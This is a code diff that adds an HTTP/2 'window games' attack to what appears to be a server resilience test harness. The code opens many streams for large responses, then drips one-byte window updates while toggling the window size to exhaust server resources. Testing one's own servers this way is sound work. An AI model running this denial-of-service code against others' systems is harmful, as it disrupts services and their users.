@@ -183,6 +183,27 @@ def unread_answers(target: Target) -> None:
         road.close()
 
 
+@attack("http2-window-games", in_slice=False)
+def window_games(target: Target) -> None:
+    """Asks for large answers on 100 streams, and takes them a byte at a time while the window jumps up and down."""
+    _fill(target, 4)
+    body = b'{"from_seq":0,"limit":1000,"max_batch_bytes":8388608}'
+    ends = time.monotonic() + target.seconds
+    while time.monotonic() < ends:
+        road, encoder = Road(target, b"\0\4\0\0\0\1"), Encoder()
+        fields = [*FIELDS, ("content-type", "application/json")]
+        for stream in range(1, 200, 2):
+            road.send(
+                frame(HEADERS, END_HEADERS, stream, encoder.encode(fields)) + frame(DATA, END_STREAM, stream, body)
+            )
+        more = b"".join(frame(WINDOW_UPDATE, 0, stream, b"\0\0\0\1") for stream in range(1, 200, 2))
+        jump = frame(SETTINGS, 0, 0, b"\0\4\0\0\xff\xff") + frame(SETTINGS, 0, 0, b"\0\4\0\0\0\0")
+        for _ in range(50):
+            if time.monotonic() > ends or not road.send(more + jump):
+                break
+        road.close()
+
+
 def _fill(target: Target, mib: int) -> None:
     record = b'{"records":[{"data":"%b"}]}' % (b"x" * 1_000_000)
     for _ in range(mib):
